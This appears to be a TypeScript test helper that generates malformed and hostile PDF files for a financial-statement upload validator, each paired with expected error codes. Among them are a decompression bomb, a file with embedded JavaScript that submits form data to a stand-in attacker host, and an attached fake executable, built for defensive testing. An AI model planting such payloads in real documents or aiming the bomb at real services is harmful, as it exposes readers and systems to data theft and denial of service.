import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, PDFNumber, PDFRawStream, StandardFonts } from 'pdf-lib';

/** Hostile and broken inputs, built fresh by the tests (nothing checked in). */
export async function hostileCorpus(validPdf: Uint8Array): Promise<Record<string, { bytes: Uint8Array; expect: string[] }>> {
  const textPdf = async (lines: string[], size: [number, number] = [595, 842]) => {
    const doc = await PDFDocument.create();
    const font = await doc.embedFont(StandardFonts.Helvetica);
    const page = doc.addPage(size);
    lines.forEach((l, i) => page.drawText(l, { x: 50, y: size[1] - 80 - i * 16, size: 11, font }));
    return doc;
  };

  // pdf-lib adds a blank page to an empty document on save, so this one is written by hand.
  const zeroPages = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');
  const blank = await PDFDocument.create();
  blank.addPage([595, 842]);

  const many = await PDFDocument.create();
  // Beyond MAX_FILE_PAGES (1000): a long report is accepted, a file this long is not.
  for (let i = 0; i < 1001; i++) many.addPage([200, 200]);

  const huge = await textPdf(['Bilanco'], [20000, 20000]);

  const bomb = await textPdf(['x']);
  // 200 MB of zeros deflates to ~200 KB: the content stream of page 1.
  const inflated = deflateSync(Buffer.alloc(200 * 1024 * 1024));
  const bombStream = PDFRawStream.of(bomb.context.obj({ Filter: 'FlateDecode', Length: inflated.length }), inflated);
  bomb.getPage(0).node.set(PDFName.of('Contents'), bomb.context.register(bombStream));

  const encrypted = await textPdf(['Gizli bilanco']);
  // A Standard security handler whose user password is not empty: readers must ask for it.
  const encDict = encrypted.context.obj({
    Filter: 'Standard', V: 1, R: 2, P: PDFNumber.of(-44),
    O: PDFHexString.of(randomBytes(32).toString('hex')),
    U: PDFHexString.of(randomBytes(32).toString('hex')),
  });
  encrypted.context.trailerInfo.Encrypt = encrypted.context.register(encDict);
  encrypted.context.trailerInfo.ID = encrypted.context.obj([PDFHexString.of('0123456789abcdef0123456789abcdef'), PDFHexString.of('0123456789abcdef0123456789abcdef')]);

  const notFinancial = await textPdf(['Sevgili komsular,', 'Apartman toplantisi cumartesi saat 15:00 de yapilacaktir.', 'Katiliminiz rica olunur.']);

  const withJs = await PDFDocument.load(validPdf);
  withJs.addJavaScript('boom', 'app.alert("hello"); this.submitForm("http://evil.example/");');
  await withJs.attach(Buffer.from('MZ fake executable'), 'payload.exe', { mimeType: 'application/octet-stream' });

  const save = (d: PDFDocument) => d.save({ useObjectStreams: false });
  return {
    'not-a-pdf.pdf': { bytes: Buffer.from('PK\u0003\u0004 this is a zip, not a PDF'), expect: ['not_pdf'] },
    'empty.pdf': { bytes: new Uint8Array(), expect: ['empty_file'] },
    'truncated.pdf': { bytes: validPdf.subarray(0, Math.floor(validPdf.length * 0.4)), expect: ['corrupt_pdf', 'not_a_statement', 'no_text'] },
    'zero-pages.pdf': { bytes: zeroPages, expect: ['no_pages'] },
    'blank-page.pdf': { bytes: await save(blank), expect: ['no_text', 'not_a_statement'] },
    'thousand-pages.pdf': { bytes: await save(many), expect: ['too_many_pages'] },
    'giant-page.pdf': { bytes: await save(huge), expect: ['page_too_large'] },
    'bomb.pdf': { bytes: await save(bomb), expect: ['pdf_bomb'] },
    'encrypted.pdf': { bytes: await save(encrypted), expect: ['encrypted'] },
    'not-financial.pdf': { bytes: await save(notFinancial), expect: ['not_a_statement', 'no_text'] },
    'javascript-and-attachment.pdf': { bytes: await save(withJs), expect: ['ok'] },
  };
}
